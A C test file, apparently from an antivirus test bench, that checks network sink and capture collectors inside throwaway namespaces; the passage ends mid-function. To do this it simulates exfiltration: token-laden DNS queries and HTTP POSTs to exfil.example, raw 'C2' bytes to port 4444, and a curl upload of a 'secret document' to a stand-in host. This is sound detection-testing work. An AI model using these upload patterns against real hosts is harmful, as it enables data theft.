/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The capture and sink collectors end to end, without a VM: two network
 * namespaces this test creates (a "host" one with a bridge, and a "guest"
 * one on a veth into it), the run's nftables rules and the collectors started
 * in the host one, a client in the guest one doing DNS (UDP and TCP), HTTP,
 * HTTPS (intercepted), a pinning client, raw TCP and UDP to outside
 * addresses, ICMP and IPv6. Needs root; exits 77 (skipped) otherwise.
 * Nothing is sent outside the two namespaces, and both are deleted at the
 * end.
 */
#include <arpa/inet.h>
#include <check.h>
#include <errno.h>
#include <fcntl.h>
#include <jansson.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "collectors/analyze.h"
#include "collectors/collector.h"
#include "collectors/tls-mitm.h"
#include "common/util.h"
#include "orchestrator/netfilter.h"

#define SINK_IP  "10.213.99.1"
#define GUEST_IP "10.213.99.2"
#define BRIDGE   "avtbbr0"
#define TOKEN    "AVTBQ3F7K2M9XWZP4R8TAB"
#define BODY_LEN 200000

#define NFT_TAG "test"

static char ns_host[64], ns_guest[64];
static char evdir[64];
static avtb_mitm *mitm;

static const avtb_nft_spec nft_spec = {.tag = NFT_TAG,
                                       .bridge = BRIDGE,
                                       .sink_ip = SINK_IP,
                                       .dns_port = AVTB_SINK_DNS_PORT,
                                       .tcp_port = AVTB_SINK_CATCHALL_PORT,
                                       .udp_port = AVTB_SINK_CATCHALL_PORT};

static int ip_cmd(const char *const argv[])
{
    avtb_error err = {0};
    int status = -1;

    if (avtb_spawn(argv, 10000, NULL, &status, &err) != AVTB_OK) {
        fprintf(stderr, "%s: %s\n", argv[1], err.msg);
        return -1;
    }
    return status == 0 ? 0 : -1;
}

#define IP(...) ip_cmd((const char *const[]){"ip", __VA_ARGS__, NULL})

static void netns_delete(void)
{
    if (ns_host[0] != '\0')
        (void)IP("netns", "del", ns_host);
    if (ns_guest[0] != '\0')
        (void)IP("netns", "del", ns_guest);
}

/* The veth is created inside the host namespace with its peer inside the guest one. */
static int netns_create(void)
{
    snprintf(ns_host, sizeof(ns_host), "avtb-test-collectors-%d", (int)getpid());
    snprintf(ns_guest, sizeof(ns_guest), "avtb-test-collectors-%d-g", (int)getpid());
    if (IP("netns", "add", ns_host) || IP("netns", "add", ns_guest) ||
        IP("-n", ns_host, "link", "set", "lo", "up") ||
        IP("-n", ns_guest, "link", "set", "lo", "up") ||
        IP("-n", ns_host, "link", "add", BRIDGE, "type", "bridge") ||
        IP("-n", ns_host, "link", "add", "avtbt0", "type", "veth", "peer", "name", "avtbg0",
           "netns", ns_guest) ||
        IP("-n", ns_host, "link", "set", "avtbt0", "master", BRIDGE) ||
        IP("-n", ns_host, "addr", "add", SINK_IP "/24", "dev", BRIDGE) ||
        IP("-n", ns_host, "link", "set", BRIDGE, "up") ||
        IP("-n", ns_host, "link", "set", "avtbt0", "up") ||
        IP("-n", ns_guest, "addr", "add", GUEST_IP "/24", "dev", "avtbg0") ||
        IP("-n", ns_guest, "link", "set", "avtbg0", "up") ||
        IP("-n", ns_guest, "route", "add", "default", "via", SINK_IP) ||
        /* IPv6 the way a hostile product sets it up: an address and a route of its own. */
        IP("-n", ns_guest, "-6", "addr", "add", "2001:db8:1::10/64", "dev", "avtbg0", "nodad") ||
        IP("-n", ns_guest, "-6", "route", "add", "default", "dev", "avtbg0"))
        return -1;
    return 0;
}

static int enter_netns(const char *name)
{
    char path[128];
    int fd, r;

    snprintf(path, sizeof(path), "/run/netns/%s", name);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    r = setns(fd, CLONE_NEWNET);
    close(fd);
    return r;
}

static const avtb_collector_ops *collector(const char *name)
{
    for (size_t i = 0; avtb_collectors[i] != NULL; i++)
        if (strcmp(avtb_collectors[i]->name, name) == 0)
            return avtb_collectors[i];
    ck_abort_msg("no collector %s", name);
    return NULL;
}

static avtb_collector_env env_for(const char *bridge, const char *ip)
{
    avtb_collector_env env = {.evidence_dir = evdir,
                              .bridge = bridge,
                              .sink_ip = ip,
                              .guest_ip = GUEST_IP,
                              .run_id = "test",
                              .scenario = "collectors",
                              .product = "none",
                              .mitm = mitm};

    return env;
}

static void setup(void)
{
    avtb_error err = {0};
    char *keylog;

    snprintf(evdir, sizeof(evdir), "/tmp/avtb-test-collectors-XXXXXX");
    ck_assert_ptr_nonnull(mkdtemp(evdir));
    keylog = avtb_path_join(evdir, "tls-keys.log");
    {
        avtb_mitm_config c = {.run_id = "test", .keylog_path = keylog};
        char *ca = avtb_path_join(evdir, "tls-ca.pem");

        ck_assert_msg(avtb_mitm_new(&c, &mitm, &err) == AVTB_OK, "%s", err.msg);
        ck_assert_int_eq(avtb_mitm_write_ca(mitm, ca, &err), AVTB_OK);
        free(ca);
    }
    free(keylog);
}

/* AVTB_TEST_KEEP=1 keeps the evidence directories for a look. */
static void teardown(void)
{
    avtb_error err = {0};

    avtb_mitm_free(mitm);
    mitm = NULL;
    if (getenv("AVTB_TEST_KEEP") != NULL) {
        fprintf(stderr, "evidence kept in %s\n", evdir);
        return;
    }
    ck_assert_int_eq(avtb_rm_rf(evdir, &err), AVTB_OK);
}

/* --- The guest side ----------------------------------------------------- */

static int sock_to(int type, uint16_t port)
{
    struct timeval tv = {3, 0};
    struct sockaddr_in sa = {0};
    int fd = socket(AF_INET, type, 0);

    if (fd < 0)
        return -1;
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
    sa.sin_family = AF_INET;
    sa.sin_port = htons(port);
    inet_pton(AF_INET, SINK_IP, &sa.sin_addr);
    if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) != 0) {
        close(fd);
        return -1;
    }
    return fd;
}

static size_t dns_query(uint8_t *q, uint16_t id, const char *name, uint16_t type)
{
    size_t o = 12;

    memset(q, 0, 12);
    q[0] = (uint8_t)(id >> 8);
    q[1] = (uint8_t)id;
    q[2] = 0x01; /* RD */
    q[5] = 1;
    while (*name) {
        size_t l = strcspn(name, ".");

        q[o++] = (uint8_t)l;
        memcpy(q + o, name, l);
        o += l;
        name += l + (name[l] == '.');
    }
    q[o++] = 0;
    q[o++] = (uint8_t)(type >> 8);
    q[o++] = (uint8_t)type;
    q[o++] = 0;
    q[o++] = 1;
    return o;
}

/* Answer count, and whether the last 4 bytes are the sink address when one is expected. */
static int dns_check(const uint8_t *r, ssize_t n, uint16_t id, int want_answers)
{
    uint8_t sink[4];

    inet_pton(AF_INET, SINK_IP, sink);
    if (n < 12 || r[0] != (id >> 8) || r[1] != (id & 0xff) || !(r[2] & 0x80) || (r[3] & 0x0f))
        return -1;
    if (r[7] != want_answers)
        return -1;
    if (want_answers && memcmp(r + n - 4, sink, 4) != 0)
        return -1;
    return 0;
}

static int guest_dns_udp(void)
{
    uint8_t q[512], r[512];
    int fd = sock_to(SOCK_DGRAM, 53);
    size_t n;
    ssize_t got;

    if (fd < 0)
        return -1;
    n = dns_query(q, 0x1234, TOKEN ".exfil.example", 1);
    if (send(fd, q, n, 0) != (ssize_t)n || (got = recv(fd, r, sizeof(r), 0)) < 0 ||
        dns_check(r, got, 0x1234, 1) != 0)
        goto fail;
    n = dns_query(q, 0x1235, "v6.example", 28);
    if (send(fd, q, n, 0) != (ssize_t)n || (got = recv(fd, r, sizeof(r), 0)) < 0 ||
        dns_check(r, got, 0x1235, 0) != 0)
        goto fail;
    close(fd);
    return 0;
fail:
    close(fd);
    return -1;
}

static int read_full(int fd, uint8_t *buf, size_t n)
{
    for (size_t got = 0; got < n;) {
        ssize_t k = recv(fd, buf + got, n - got, 0);

        if (k <= 0)
            return -1;
        got += (size_t)k;
    }
    return 0;
}

static int guest_dns_tcp(void)
{
    uint8_t q[514], r[514];
    int fd = sock_to(SOCK_STREAM, 53);
    size_t n, rn;

    if (fd < 0)
        return -1;
    n = dns_query(q + 2, 0x4321, "tcp.example", 1);
    q[0] = (uint8_t)(n >> 8);
    q[1] = (uint8_t)n;
    if (send(fd, q, n + 2, 0) != (ssize_t)(n + 2) || read_full(fd, r, 2) != 0)
        goto fail;
    rn = (size_t)r[0] << 8 | r[1];
    if (rn > sizeof(r) - 2 || read_full(fd, r + 2, rn) != 0 ||
        dns_check(r + 2, (ssize_t)rn, 0x4321, 1) != 0)
        goto fail;
    close(fd);
    return 0;
fail:
    close(fd);
    return -1;
}

static char *post_body(void)
{
    char *b = malloc(BODY_LEN + 1);

    for (size_t i = 0; i < BODY_LEN; i++)
        b[i] = (char)('a' + i % 26);
    /* Far into the body, so it crosses segment boundaries at some offset. */
    memcpy(b + BODY_LEN - 5000, TOKEN, strlen(TOKEN));
    b[BODY_LEN] = '\0';
    return b;
}

static int guest_http(void)
{
    char head[256], resp[1024];
    char *body = post_body();
    int fd = sock_to(SOCK_STREAM, 80), hl;
    size_t got = 0;
    ssize_t k;

    if (fd < 0)
        goto fail;
    hl = snprintf(head, sizeof(head),
                  "POST /upload?id=1 HTTP/1.1\r\nHost: exfil.example\r\nContent-Length: %d\r\n"
                  "Connection: close\r\n\r\n",
                  BODY_LEN);
    if (send(fd, head, (size_t)hl, 0) != hl || send(fd, body, BODY_LEN, 0) != BODY_LEN)
        goto fail;
    while (got < sizeof(resp) - 1 && (k = recv(fd, resp + got, sizeof(resp) - 1 - got, 0)) > 0)
        got += (size_t)k;
    resp[got] = '\0';
    if (strncmp(resp, "HTTP/1.1 200", 12) != 0 || strstr(resp, "{\"status\":\"ok\"}") == NULL)
        goto fail;
    close(fd);
    free(body);
    return 0;
fail:
    if (fd >= 0)
        close(fd);
    free(body);
    return -1;
}

/* Runs the guest's traffic in the guest namespace; 0 if every exchange worked. */
static int run_guest(void)
{
    pid_t pid = fork();
    int status;

    ck_assert_int_ge(pid, 0);
    if (pid == 0) {
        alarm(20); /* every exchange is bounded; this bounds the whole */
        if (enter_netns(ns_guest) != 0)
            _exit(10);
        if (guest_dns_udp() != 0)
            _exit(11);
        if (guest_dns_tcp() != 0)
            _exit(12);
        if (guest_http() != 0)
            _exit(13);
        _exit(0);
    }
    ck_assert_int_eq(waitpid(pid, &status, 0), pid);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

/* --- Checks on the evidence ---------------------------------------------- */

static json_t *jsonl_line(const char *name, size_t index)
{
    char *path = avtb_path_join(evdir, name), line[4096];
    json_t *o = NULL;
    FILE *fp = fopen(path, "r");

    ck_assert_ptr_nonnull(fp);
    for (size_t i = 0; i <= index; i++)
        ck_assert_ptr_nonnull(fgets(line, sizeof(line), fp));
    o = json_loads(line, 0, NULL);
    ck_assert_ptr_nonnull(o);
    fclose(fp);
    free(path);
    return o;
}

static const char *jstr(json_t *o, const char *key)
{
    const char *s = json_string_value(json_object_get(o, key));

    ck_assert_msg(s != NULL, "no string %s", key);
    return s;
}

START_TEST(sink_and_capture_record_an_upload)
{
    avtb_collector_env env = env_for(BRIDGE, SINK_IP);
    const avtb_collector_ops *cap = collector("capture"), *snk = collector("sink");
    const char *const toks[] = {TOKEN};
    void *cap_state = NULL, *snk_state = NULL;
    avtb_analyze_stats st;
    avtb_findings f = {0};
    avtb_error err = {0};
    char sha[65], *path, *body;
    bool saw_http = false, saw_dns = false;
    json_t *o;

    ck_assert_msg(cap->start(&env, &cap_state, &err) == AVTB_OK, "capture: %s", err.msg);
    ck_assert_msg(snk->start(&env, &snk_state, &err) == AVTB_OK, "sink: %s", err.msg);
    ck_assert_int_eq(run_guest(), 0);
    ck_assert_msg(snk->stop(snk_state, &err), "sink stop: %s", err.msg);
    ck_assert_msg(cap->stop(cap_state, &err), "capture stop: %s", err.msg);

    o = jsonl_line("sink-dns.jsonl", 0);
    ck_assert_str_eq(jstr(o, "client"), GUEST_IP);
    ck_assert_str_eq(jstr(o, "qname"), TOKEN ".exfil.example");
    ck_assert_str_eq(jstr(o, "qtype"), "A");
    ck_assert_str_eq(jstr(o, "answer"), SINK_IP);
    json_decref(o);
    o = jsonl_line("sink-dns.jsonl", 1);
    ck_assert_str_eq(jstr(o, "qtype"), "AAAA");
    ck_assert(json_is_null(json_object_get(o, "answer")));
    json_decref(o);
    o = jsonl_line("sink-dns.jsonl", 2);
    ck_assert_str_eq(jstr(o, "transport"), "tcp");
    ck_assert_str_eq(jstr(o, "qname"), "tcp.example");
    json_decref(o);

    body = post_body();
    avtb_sha256_hex(body, BODY_LEN, sha);
    free(body);
    o = jsonl_line("sink-http.jsonl", 0);
    ck_assert_str_eq(jstr(o, "method"), "POST");
    ck_assert_str_eq(jstr(o, "host"), "exfil.example");
    ck_assert_str_eq(jstr(o, "uri"), "/upload?id=1");
    ck_assert_int_eq(json_integer_value(json_object_get(o, "body_bytes")), BODY_LEN);
    ck_assert_str_eq(jstr(o, "body_sha256"), sha);
    json_decref(o);

    path = avtb_path_join(evdir, "capture.json");
    o = json_load_file(path, 0, NULL);
    free(path);
    ck_assert_ptr_nonnull(o);
    ck_assert(json_is_true(json_object_get(o, "complete")));
    ck_assert_str_eq(jstr(o, "interface"), BRIDGE);
    ck_assert_int_gt(json_integer_value(json_object_get(o, "packets_received")), 10);
    json_decref(o);

    path = avtb_path_join(evdir, "capture.pcapng");
    ck_assert_msg(avtb_analyze_pcap(path, toks, 1, &f, &st, &err) == AVTB_OK, "%s", err.msg);
    free(path);
    for (size_t i = 0; i < f.count; i++) {
        if (strcmp(f.items[i].protocol, "http") == 0) {
            saw_http = true;
            ck_assert_str_eq(f.items[i].src.ip, GUEST_IP);
            ck_assert_str_eq(f.items[i].dst.ip, SINK_IP);
            ck_assert_uint_eq(f.items[i].dst.port, 80);
            ck_assert_str_eq(f.items[i].dst.host, "exfil.example");
            ck_assert_str_eq(f.items[i].encoding, "http-body");
        } else if (strcmp(f.items[i].protocol, "dns") == 0 &&
                   strcmp(f.items[i].src.ip, GUEST_IP) == 0) {
            saw_dns = true;
        }
    }
    ck_assert(saw_http);
    ck_assert(saw_dns);
    ck_assert_uint_eq(st.anomalies, 0);
    avtb_findings_clear(&f);
}
END_TEST

/* One GET from the guest namespace; the whole response into resp. 0 on success. */
static int guest_get(const char *host, const char *path, char *resp, size_t cap)
{
    char head[512];
    int fd = sock_to(SOCK_STREAM, 80), hl;
    size_t got = 0;
    ssize_t k;

    if (fd < 0)
        return -1;
    hl = snprintf(head, sizeof(head), "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n",
                  path, host);
    if (send(fd, head, (size_t)hl, 0) != hl) {
        close(fd);
        return -1;
    }
    while (got < cap - 1 && (k = recv(fd, resp + got, cap - 1 - got, 0)) > 0)
        got += (size_t)k;
    resp[got] = '\0';
    close(fd);
    return 0;
}

/* A scenario's network.responses: the first matching answer is served and logged. */
START_TEST(sink_serves_scenario_answers)
{
    static const char *const hdrs[] = {"X-Vendor: asker", "Content-Type: text/plain"};
    const avtb_http_answer answers[] = {
        {.host = "cloud.asker.example",
         .path = "/api/v1/lookup",
         .status = 202,
         .headers = hdrs,
         .nheaders = 2,
         .body = "upload\n",
         .body_len = 7},
        {.host = "*", .path = "/", .status = 404, .body = "nothing", .body_len = 7},
    };
    avtb_collector_env env = env_for(BRIDGE, SINK_IP);
    const avtb_collector_ops *snk = collector("sink");
    void *state = NULL;
    avtb_error err = {0};
    pid_t pid;
    int status;
    json_t *o;

    env.answers = answers;
    env.nanswers = 2;
    ck_assert_msg(snk->start(&env, &state, &err) == AVTB_OK, "sink: %s", err.msg);
    pid = fork();
    ck_assert_int_ge(pid, 0);
    if (pid == 0) {
        char resp[2048];

        alarm(20);
        if (enter_netns(ns_guest) != 0)
            _exit(10);
        if (guest_get("Cloud.Asker.Example:80", "/api/v1/lookup?sha256=ab", resp, sizeof(resp)) ||
            strncmp(resp, "HTTP/1.1 202", 12) != 0 || strstr(resp, "X-Vendor: asker") == NULL ||
            strstr(resp, "\r\n\r\nupload\n") == NULL)
            _exit(11);
        if (guest_get("cloud.asker.example", "/other", resp, sizeof(resp)) ||
            strncmp(resp, "HTTP/1.1 404", 12) != 0 || strstr(resp, "nothing") == NULL)
            _exit(12);
        _exit(0);
    }
    ck_assert_int_eq(waitpid(pid, &status, 0), pid);
    ck_assert_msg(WIFEXITED(status) && WEXITSTATUS(status) == 0, "guest exit %d", status);
    ck_assert_msg(snk->stop(state, &err), "sink stop: %s", err.msg);
    o = jsonl_line("sink-http.jsonl", 0);
    ck_assert_int_eq(json_integer_value(json_object_get(o, "answer")), 0);
    json_decref(o);
    o = jsonl_line("sink-http.jsonl", 1);
    ck_assert_int_eq(json_integer_value(json_object_get(o, "answer")), 1);
    json_decref(o);
}
END_TEST

START_TEST(start_errors_are_reported)
{
    avtb_collector_env no_if = env_for("avtbnope0", SINK_IP);
    avtb_collector_env no_ip = env_for(BRIDGE, "10.213.98.1");
    void *state = (void *)1;
    avtb_error err = {0};

    ck_assert_int_ne(collector("capture")->start(&no_if, &state, &err), AVTB_OK);
    ck_assert_ptr_null(state);
    ck_assert_ptr_nonnull(strstr(err.msg, "avtbnope0"));
    avtb_error_clear(&err);
    ck_assert_int_ne(collector("sink")->start(&no_ip, &state, &err), AVTB_OK);
    ck_assert_ptr_nonnull(strstr(err.msg, "10.213.98.1"));
    ck_assert(collector("sink")->stop(NULL, &err));
}
END_TEST

/* The only child of this process, found through /proc. */
static pid_t only_child(void)
{
    char path[64], buf[256] = "", *tok, *save = NULL;
    pid_t pid = 0;
    int n = 0;
    FILE *fp;

    snprintf(path, sizeof(path), "/proc/self/task/%d/children", (int)getpid());
    fp = fopen(path, "r");
    ck_assert_ptr_nonnull(fp);
    ck_assert_ptr_nonnull(fgets(buf, sizeof(buf), fp));
    fclose(fp);
    for (tok = strtok_r(buf, " \n", &save); tok != NULL; tok = strtok_r(NULL, " \n", &save)) {
        pid = (pid_t)atoi(tok);
        n++;
    }
    ck_assert_int_eq(n, 1);
    return pid;
}

START_TEST(crashed_capture_is_incomplete)
{
    avtb_collector_env env = env_for(BRIDGE, SINK_IP);
    const avtb_collector_ops *cap = collector("capture");
    void *state = NULL;
    avtb_error err = {0};
    pid_t child;

    ck_assert_msg(cap->start(&env, &state, &err) == AVTB_OK, "%s", err.msg);
    child = only_child();
    ck_assert_int_gt(child, 0);
    ck_assert_int_eq(kill(child, SIGKILL), 0);
    usleep(100000);
    ck_assert(!cap->stop(state, &err));
    ck_assert_ptr_nonnull(strstr(err.msg, "signal 9"));
}
END_TEST

/* --- Every destination, redirected: TLS, pinning, raw TCP, UDP, ICMP, IPv6 - */

/* Runs argv inside the guest namespace; its exit status. */
static int guest_spawn(const char *const *argv)
{
    const char *full[24] = {"ip", "netns", "exec", ns_guest};
    avtb_error err = {0};
    int status = -1;
    size_t n = 4;

    for (size_t i = 0; argv[i] != NULL && n < 23; i++)
        full[n++] = argv[i];
    full[n] = NULL;
    if (avtb_spawn(full, 20000, NULL, &status, &err) != AVTB_OK)
        return -1;
    return status;
}

#define GUEST(...) guest_spawn((const char *const[]){__VA_ARGS__, NULL})

static int connect_to(int family, const char *ip, uint16_t port, int type)
{
    struct timeval tv = {3, 0};
    struct sockaddr_storage ss = {0};
    socklen_t sl;
    int fd = socket(family, type, 0);

    if (fd < 0)
        return -1;
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
    if (family == AF_INET) {
        struct sockaddr_in *in = (struct sockaddr_in *)&ss;

        in->sin_family = AF_INET;
        in->sin_port = htons(port);
        inet_pton(AF_INET, ip, &in->sin_addr);
        sl = sizeof(*in);
    } else {
        struct sockaddr_in6 *in6 = (struct sockaddr_in6 *)&ss;

        in6->sin6_family = AF_INET6;
        in6->sin6_port = htons(port);
        inet_pton(AF_INET6, ip, &in6->sin6_addr);
        sl = sizeof(*in6);
    }
    if (connect(fd, (struct sockaddr *)&ss, sl) != 0) {
        close(fd);
        return -1;
    }
    return fd;
}

/* The guest's direct attempts, in its namespace; 0 if each behaved as the sink makes it. */
static int guest_direct(void)
{
    static const char raw[] = "HELLO " TOKEN " raw bytes to a C2 server\n";
    char resp[1024];
    uint8_t q[512], r[512];
    int fd;
    size_t n, got = 0;
    ssize_t k;

    /* Raw TCP to a public address: accepted, recorded, nothing answered. */
    fd = connect_to(AF_INET, "203.0.113.9", 4444, SOCK_STREAM);
    if (fd < 0 || send(fd, raw, sizeof(raw) - 1, 0) != (ssize_t)sizeof(raw) - 1)
        return 21;
    close(fd);
    /* HTTP on an odd port of a private address: the sink's HTTP answers. */
    fd = connect_to(AF_INET, "192.168.1.1", 8080, SOCK_STREAM);
    if (fd < 0)
        return 22;
    n = (size_t)snprintf(resp, sizeof(resp),
                         "GET /c2 HTTP/1.1\r\nHost: 192.168.1.1:8080\r\nConnection: close\r\n\r\n");
    if (send(fd, resp, n, 0) != (ssize_t)n)
        return 22;
    while (got < sizeof(resp) - 1 && (k = recv(fd, resp + got, sizeof(resp) - 1 - got, 0)) > 0)
        got += (size_t)k;
    resp[got] = '\0';
    close(fd);
    if (strncmp(resp, "HTTP/1.1 200", 12) != 0)
        return 23;
    /* UDP to a public NTP server: recorded with its destination. */
    fd = connect_to(AF_INET, "9.9.9.9", 123, SOCK_DGRAM);
    if (fd < 0 || send(fd, raw, sizeof(raw) - 1, 0) != (ssize_t)sizeof(raw) - 1)
        return 24;
    close(fd);
    /* Its own resolver: the sink answers instead. */
    fd = connect_to(AF_INET, "8.8.8.8", 53, SOCK_DGRAM);
    n = dns_query(q, 0x7777, "own-resolver.example", 1);
    if (fd < 0 || send(fd, q, n, 0) != (ssize_t)n || (k = recv(fd, r, sizeof(r), 0)) < 0 ||
        dns_check(r, k, 0x7777, 1) != 0)
        return 25;
    close(fd);
    /* IPv6 to a public resolver: the neighbour discovery it starts is dropped at the bridge. */
    fd = connect_to(AF_INET6, "2606:4700:4700::1111", 53, SOCK_DGRAM);
    if (fd < 0 || send(fd, raw, sizeof(raw) - 1, 0) != (ssize_t)sizeof(raw) - 1)
        return 26;
    close(fd);
    return 0;
}

static json_t *jsonl_find(const char *name, const char *key, const char *value)
{
    char *path = avtb_path_join(evdir, name), line[8192];
    json_t *found = NULL;
    FILE *fp = fopen(path, "r");

    ck_assert_msg(fp != NULL, "no %s", name);
    while (found == NULL && fgets(line, sizeof(line), fp) != NULL) {
        json_t *o = json_loads(line, 0, NULL);
        const char *v = json_string_value(json_object_get(o, key));

        if (v != NULL && strcmp(v, value) == 0)
            found = o;
        else
            json_decref(o);
    }
    fclose(fp);
    free(path);
    ck_assert_msg(found != NULL, "%s has no line with %s=%s", name, key, value);
    return found;
}

static long long jint(json_t *o, const char *key)
{
    return json_integer_value(json_object_get(o, key));
}

START_TEST(sink_catches_every_destination)
{
    avtb_collector_env env = env_for(BRIDGE, SINK_IP);
    const avtb_collector_ops *snk = collector("sink");
    void *state = NULL;
    avtb_error err = {0};
    char *ca = avtb_path_join(evdir, "tls-ca.pem"), *body = avtb_path_join(evdir, "body.txt");
    char *keys = avtb_path_join(evdir, "tls-keys.log"), *nft = avtb_path_join(evdir, "nft.json");
    static const char upload[] = "secret document " TOKEN " end\n";
    struct stat st;
    char at[128];
    pid_t pid;
    int status;
    json_t *o, *tables;

    snprintf(at, sizeof(at), "@%s", body);
    ck_assert_int_eq(avtb_write_file(body, upload, sizeof(upload) - 1, 0644, &err), AVTB_OK);
    ck_assert_msg(snk->start(&env, &state, &err) == AVTB_OK, "sink: %s", err.msg);
    /* HTTPS by name to a public address, trusting the run's CA: intercepted. */
    ck_assert_int_eq(GUEST("curl", "-sS", "--max-time", "10", "--cacert", ca, "--resolve",
                           "upload.tls.example:443:1.2.3.4", "--data-binary", at, "-o", "/dev/null",
                           "-w", "%{http_code}", "https://upload.tls.example/v2/submit"),
                     0);
    /* A client that pins its vendor's key: the handshake, and nothing else. */
    ck_assert_int_ne(GUEST("curl", "-sS", "--max-time", "10", "--cacert", ca, "--resolve",
                           "telemetry.pin.example:443:5.6.7.8", "--pinnedpubkey",
                           "sha256//AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=", "--data-binary",
                           at, "https://telemetry.pin.example/up"),
                     0);
    /* ICMP to a public address: answered by the bridge address. */
    ck_assert_int_eq(GUEST("busybox", "ping", "-c", "1", "-W", "3", "1.1.1.1"), 0);
    pid = fork();
    ck_assert_int_ge(pid, 0);
    if (pid == 0) {
        alarm(30);
        _exit(enter_netns(ns_guest) != 0 ? 10 : guest_direct());
    }
    ck_assert_int_eq(waitpid(pid, &status, 0), pid);
    ck_assert_msg(WIFEXITED(status) && WEXITSTATUS(status) == 0, "guest exit %d", status);
    ck_assert_msg(snk->stop(state, &err), "sink stop: %s", err.msg);

    o = jsonl_find("sink-tls.jsonl", "sni", "upload.tls.example");
    ck_assert(json_is_true(json_object_get(o, "ok")));
    ck_assert_str_eq(jstr(o, "orig_dst"), "1.2.3.4");
    ck_assert_int_eq(jint(o, "orig_dst_port"), 443);
    ck_assert_int_ge(jint(o, "plaintext_from_client"), (long long)sizeof(upload) - 1);
    json_decref(o);
    o = jsonl_find("sink-http.jsonl", "sni", "upload.tls.example");
    ck_assert(json_is_true(json_object_get(o, "tls")));
    ck_assert_str_eq(jstr(o, "client"), GUEST_IP);
    ck_assert_str_eq(jstr(o, "orig_dst"), "1.2.3.4");
    ck_assert_int_eq(jint(o, "body_bytes"), (long long)sizeof(upload) - 1);
    json_decref(o);
    /* curl checks the pin after the handshake and hangs up without a byte of data. */
    o = jsonl_find("sink-tls.jsonl", "sni", "telemetry.pin.example");
    ck_assert_str_eq(jstr(o, "orig_dst"), "5.6.7.8");
    ck_assert_int_eq(jint(o, "plaintext_from_client"), 0);
    json_decref(o);
    ck_assert_int_eq(stat(keys, &st), 0);
    ck_assert_int_gt(st.st_size, 100);

    o = jsonl_find("sink-tcp.jsonl", "orig_dst", "203.0.113.9");
    ck_assert_str_eq(jstr(o, "protocol"), "raw");
    ck_assert_int_eq(jint(o, "orig_dst_port"), 4444);
    ck_assert_int_gt(jint(o, "bytes_from_client"), 20);
    json_decref(o);
    o = jsonl_find("sink-http.jsonl", "orig_dst", "192.168.1.1");
    ck_assert_int_eq(jint(o, "orig_dst_port"), 8080);
    ck_assert(json_is_false(json_object_get(o, "tls")));
    json_decref(o);
    o = jsonl_find("sink-udp.jsonl", "orig_dst", "9.9.9.9");
    ck_assert_int_eq(jint(o, "orig_dst_port"), 123);
    json_decref(o);
    o = jsonl_find("sink-dns.jsonl", "qname", "own-resolver.example");
    ck_assert_str_eq(jstr(o, "answer"), SINK_IP);
    ck_assert_str_eq(jstr(o, "orig_dst"), "8.8.8.8");
    json_decref(o);

    /* The rules' counters: IPv6 dropped, nothing forwarded. Then back for the next test. */
    ck_assert_msg(avtb_nft_remove(NFT_TAG, nft, &err) == AVTB_OK, "%s", err.msg);
    ck_assert_msg(avtb_nft_install(&nft_spec, &err) == AVTB_OK, "%s", err.msg);
    tables = json_load_file(nft, 0, NULL);
    ck_assert_ptr_nonnull(tables);
    {
        size_t i;
        json_t *x;
        long long ipv6 = -1, forwarded = 0;

        json_array_foreach(json_object_get(tables, "nftables"), i, x)
        {
            json_t *rule = json_object_get(x, "rule"), *e;
            const char *comment = json_string_value(json_object_get(rule, "comment"));
            size_t k;

            json_array_foreach(json_object_get(rule, "expr"), k, e)
            {
                json_t *c = json_object_get(e, "counter");

                if (c == NULL || comment == NULL)
                    continue;
                if (strcmp(comment, "guest IPv6") == 0)
                    ipv6 = jint(c, "packets");
                else if (strncmp(comment, "from guest", 10) == 0 ||
                         strncmp(comment, "to guest", 8) == 0)
                    forwarded += jint(c, "packets");
            }
        }
        ck_assert_int_gt(ipv6, 0);
        ck_assert_int_eq(forwarded, 0);
    }
    json_decref(tables);
    free(ca);
    free(body);
    free(keys);
    free(nft);
}
END_TEST

/* --- Record and replay --------------------------------------------------- */

#define UPSTREAM_PORT 18089

/* A stand-in for the vendor's real cloud, on loopback of the host namespace:
 * answers up to n requests with "upload", then exits. */
static pid_t upstream_start(int n)
{
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(UPSTREAM_PORT)};
    int one = 1, lfd = socket(AF_INET, SOCK_STREAM, 0);
    pid_t pid;

    sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    ck_assert_int_ge(lfd, 0);
    setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
    ck_assert_int_eq(bind(lfd, (struct sockaddr *)&sa, sizeof(sa)), 0);
    ck_assert_int_eq(listen(lfd, 8), 0);
    pid = fork();
    ck_assert_int_ge(pid, 0);
    if (pid == 0) {
        static const char reply[] = "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n"
                                    "X-Upstream: yes\r\nContent-Length: 7\r\n"
                                    "Connection: close\r\n\r\nupload\n";

        alarm(20);
        for (int i = 0; i < n; i++) {
            char req[4096];
            int fd = accept(lfd, NULL, NULL);

            if (fd < 0)
                _exit(1);
            if (recv(fd, req, sizeof(req), 0) <= 0 ||
                send(fd, reply, sizeof(reply) - 1, 0) != (ssize_t)sizeof(reply) - 1)
                _exit(2);
            close(fd);
        }
        _exit(0);
    }
    close(lfd);
    return pid;
}

static int guest_asks(const char *query)
{
    pid_t pid = fork();
    int status;

    ck_assert_int_ge(pid, 0);
    if (pid == 0) {
        char resp[2048], path[128];

        alarm(20);
        snprintf(path, sizeof(path), "/api/v1/lookup?sha256=%s", query);
        if (enter_netns(ns_guest) != 0)
            _exit(10);
